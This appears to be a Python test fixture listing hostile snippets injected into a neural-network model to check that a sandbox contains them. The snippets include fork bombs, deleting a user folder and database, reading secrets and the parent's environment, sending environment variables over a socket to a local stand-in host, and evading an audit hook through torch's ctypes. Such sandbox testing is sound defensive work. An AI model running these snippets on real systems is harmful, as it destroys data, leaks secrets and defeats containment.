"""Nets that attack. Each is a piece of code put into a sound Net, and should end by the sandbox's walls alone.

`{canary}` stands for a folder of the person's that must stay as it is, `{secret}` for a file in it.
"""

# ruff: noqa: E501
# One Net a line, so that the tables can be read down.

from __future__ import annotations

import textwrap
from dataclasses import dataclass

from defects_dynamic import LSTM

WHERE = {
    "import": ("MAX_LENGTH = 20\n", ""),
    "init": ("        width = 64\n", "        "),
    "setup": ("        self.to(self.device)\n", "        "),
    "learn": ("        self.train()\n", "        "),
    "forward": ("        memory = self.encoder(images.to(self.device))\n", "        "),
}


@dataclass(frozen=True)
class Hostile:
    """`code` runs at `where`. Any outcome of `outcomes` is right."""

    name: str
    where: str
    code: str
    outcomes: tuple[str, ...] = ("unsafe",)

    def source(self, canary: str) -> str:
        anchor, indent = WHERE[self.where]
        assert anchor in LSTM
        code = (
            textwrap.dedent(self.code)
            .strip("\n")
            .replace("{canary}", canary)
            .replace("{secret}", f"{canary}/secret.txt")
        )
        return LSTM.replace(anchor, anchor + textwrap.indent(code, indent) + "\n", 1)


TIMEOUT, MEMORY, CRASH, UNSAFE = ("timeout",), ("out_of_memory",), ("runtime_error",), ("unsafe",)

# Straight to the C library, past everything that Python sees.
C = "import ctypes\nlibc = ctypes.CDLL(None)\n"
# The same without the audit hook's knowledge: torch has loaded ctypes, whose functions are reached through it.
QUIET = "import torch._ops\nct = torch._ops.ctypes\nlibc = ct.pythonapi\n"

HOSTILE = [
    Hostile("fork bomb", "init", "import os\nwhile True:\n    os.fork()"),
    Hostile("fork bomb behind a try", "forward", "import os\nfor _ in range(10000):\n    try:\n        os.fork()\n    except BaseException:\n        pass"),
    Hostile("fork through C", "init", QUIET + "while True:\n    libc.fork()"),
    Hostile("double fork", "learn", "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        time.sleep(600)\n    os._exit(0)"),
    Hostile("daemon through C", "init", QUIET + "libc.daemon(0, 0)\nimport time\ntime.sleep(600)"),
    Hostile("vfork and exec through C", "init", QUIET + "libc.system(b'sleep 600 &')"),
    Hostile("endless import", "import", "while True:\n    pass", TIMEOUT),
    Hostile("endless init", "init", "while True:\n    pass", TIMEOUT),
    Hostile("endless forward", "forward", "while True:\n    pass", TIMEOUT),
    Hostile("endless learn", "learn", "while True:\n    pass", TIMEOUT),
    Hostile("endless behind a try", "init", "while True:\n    try:\n        while True:\n            pass\n    except BaseException:\n        pass", TIMEOUT),
    Hostile("sleeps", "init", "import time\ntime.sleep(1000)", TIMEOUT),
    Hostile("endless regular expression", "import", "import re\nre.match('(a+)+$', 'a' * 60 + 'b')", TIMEOUT),
    Hostile("endless big number", "init", "9 ** 9 ** 9", ("timeout", "out_of_memory")),
    Hostile("waits for a lock", "learn", "import threading\nlock = threading.Lock()\nlock.acquire()\nlock.acquire()", TIMEOUT),
    Hostile("100 GB tensor", "init", "self.huge = torch.ones(25_000_000_000)", MEMORY),
    Hostile("100 GB bytes", "forward", "bytearray(100_000_000_000)", MEMORY),
    Hostile("memory in small pieces", "learn", "keep = []\nwhile True:\n    keep.append(torch.ones(1_000_000))", ("out_of_memory", "timeout")),
    Hostile("list without end", "import", "keep = []\nwhile True:\n    keep.append(bytes(10_000_000))", MEMORY),
    Hostile("endless recursion", "forward", "def down():\n    return down()\ndown()", CRASH),
    Hostile("stack overflow in C", "init", "import sys\nsys.setrecursionlimit(10**9)\ndef down(x):\n    return [down, *map(down, [x])]\ndown(1)", ("runtime_error", "out_of_memory")),
    Hostile("os._exit with 0", "init", "import os\nos._exit(0)", CRASH),
    Hostile("os._exit in learn", "learn", "import os\nos._exit(3)", CRASH),
    Hostile("SystemExit", "forward", "raise SystemExit(0)", CRASH),
    Hostile("KeyboardInterrupt", "learn", "raise KeyboardInterrupt", CRASH),
    Hostile("segmentation fault through ctypes", "init", C + "ctypes.string_at(0)", ("unsafe", "runtime_error")),
    Hostile("segmentation fault without the hook", "init", QUIET + "ct.string_at(0)", ("unsafe", "runtime_error")),
    Hostile("abort", "learn", "import os\nos.abort()", ("runtime_error", "unsafe")),
    Hostile("segmentation fault through faulthandler", "init", "import faulthandler\nfaulthandler._sigsegv()", ("runtime_error", "unsafe")),
    Hostile("ignores SIGTERM", "init", "import signal, time\nfor s in range(1, 65):\n    try:\n        signal.signal(s, signal.SIG_IGN)\n    except (OSError, ValueError):\n        pass\nwhile True:\n    time.sleep(1)", TIMEOUT),
    Hostile("ignores the CPU limit", "init", "import signal\nsignal.signal(signal.SIGXCPU, signal.SIG_IGN)\nwhile True:\n    pass", TIMEOUT),
    Hostile("kills its parent", "init", "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)"),
    Hostile("kills everything through C", "init", QUIET + "libc.kill(-1, 9)\nlibc.raise_ = 0\nwhile True:\n    pass", ("unsafe", "timeout", "runtime_error")),
    Hostile("kills itself", "learn", "import os\nos.kill(os.getpid(), 9)"),
    Hostile("writes outside", "init", "open('{canary}/new.txt', 'w').write('x')"),
    Hostile("writes behind a try", "learn", "try:\n    open('{secret}', 'a').write('x')\nexcept BaseException:\n    pass"),
    Hostile("writes through C", "init", QUIET + "f = libc.open(b'{canary}/new.txt', 0o102, 0o644)\nassert f < 0, f\nlibc.unlink(b'{secret}')\nraise SystemExit", ("runtime_error", "unsafe")),
    Hostile("deletes a database", "forward", "import os\nos.remove('{canary}/db/ab.nn.db')"),
    Hostile("deletes a tree", "init", "import shutil\nshutil.rmtree('{canary}', ignore_errors=True)"),
    Hostile("empties a database", "init", "import sqlite3\nsqlite3.connect('{canary}/db/ab.nn.db').execute('drop table nn')"),
    Hostile("renames", "setup", "import os\nos.rename('{secret}', '{canary}/other.txt')"),
    Hostile("changes permissions through C", "init", QUIET + "libc.chmod(b'{secret}', 0)\nwhile True:\n    pass", ("unsafe", "timeout")),
    Hostile("links out", "init", "import os\nos.symlink('{secret}', '{canary}/link')"),
    Hostile("edits LEMUR's modules", "import", "import importlib.util\nspec = importlib.util.find_spec('torch')\nopen(spec.origin, 'a').write('#')"),
    Hostile("saves through torch", "learn", "torch.save(self.state_dict(), '{canary}/model.pt')"),
    Hostile("a million files", "init", "for i in range(1_000_000):\n    open('{canary}/%d' % i, 'w').close()"),
    Hostile("fills the disk", "init", "import tempfile\nf = tempfile.TemporaryFile()\nwhile True:\n    f.write(bytes(10_000_000))"),
    Hostile("makes folders through C", "init", QUIET + "for i in range(100000):\n    libc.mkdir(b'{canary}/d%d' % i, 0o755)\nwhile True:\n    pass", ("timeout", "unsafe")),
    Hostile("reads a secret", "init", "text = open('{secret}').read()\nraise SystemExit(text)"),
    Hostile("reads the parent's environment", "init", "open('/proc/%d/environ' % __import__('os').getppid()).read()"),
    Hostile("sends its environment", "init", "import os, socket\nsocket.create_connection(('127.0.0.1', 9)).send(str(os.environ).encode())"),
    Hostile("opens a socket behind a try", "forward", "import socket\ntry:\n    socket.socket()\nexcept BaseException:\n    pass"),
    Hostile("opens a socket through C", "init", QUIET + "libc.socket(2, 1, 0)\nwhile True:\n    pass"),
    Hostile("downloads", "init", "import urllib.request\nurllib.request.urlopen('http://127.0.0.1:9/x')"),
    Hostile("asks for weights", "init", "torch.hub.load_state_dict_from_url('http://127.0.0.1:9/x.pth')"),
    Hostile("runs a program", "init", "import subprocess\nsubprocess.run(['touch', '{canary}/new.txt'])"),
    Hostile("os.system", "learn", "import os\nos.system('touch {canary}/new.txt')"),
    Hostile("replaces its program", "init", "import os\nos.execv('/bin/sleep', ['sleep', '600'])"),
    Hostile("traces another process", "init", QUIET + "libc.ptrace(16, 1, 0, 0)\nwhile True:\n    pass"),
    Hostile("raises its limits", "init", "import resource\nresource.setrlimit(resource.RLIMIT_AS, (-1, -1))\ntorch.ones(25_000_000_000)"),
    Hostile("enters another namespace", "init", QUIET + "libc.unshare(0x10000000)\nwhile True:\n    pass"),
    Hostile("threads that never end", "learn", "import threading\nwhile True:\n    threading.Thread(target=threading.Event().wait).start()", ("timeout", "runtime_error", "out_of_memory")),
    Hostile("a thread that spins at exit", "init", "import threading\ndef spin():\n    while True:\n        pass\nthreading.Thread(target=spin).start()\nwhile True:\n    pass", TIMEOUT),
    Hostile("huge prints", "forward", "while True:\n    print('x' * 1_000_000)", TIMEOUT),
    Hostile("huge errors", "init", "import sys\nwhile True:\n    sys.stderr.write('x' * 1_000_000)", TIMEOUT),
    Hostile("floods every descriptor", "init", "import os\nwhile True:\n    for fd in range(1, 64):\n        try:\n            os.write(fd, b'{\"kind\": \"done\"}\\n' * 1000)\n        except OSError:\n            pass", ("timeout", "runtime_error")),
    Hostile("forges a pass", "init", "import os\nfor fd in range(3, 64):\n    try:\n        os.write(fd, b'\\n{\"kind\": \"done\"}\\n')\n    except OSError:\n        pass\nos._exit(0)", CRASH),
    Hostile("closes every descriptor", "init", "import os\nos.closerange(0, 1024)\nwhile True:\n    pass", ("timeout", "runtime_error")),
    Hostile("an error that lies", "forward", "class Sly(BaseException):\n    def __str__(self):\n        while True:\n            pass\nraise Sly", ("timeout", "runtime_error")),
    Hostile("an error whose text exits", "learn", "class Sly(Exception):\n    def __str__(self):\n        raise SystemExit(0)\nraise Sly", CRASH),
]  # fmt: skip
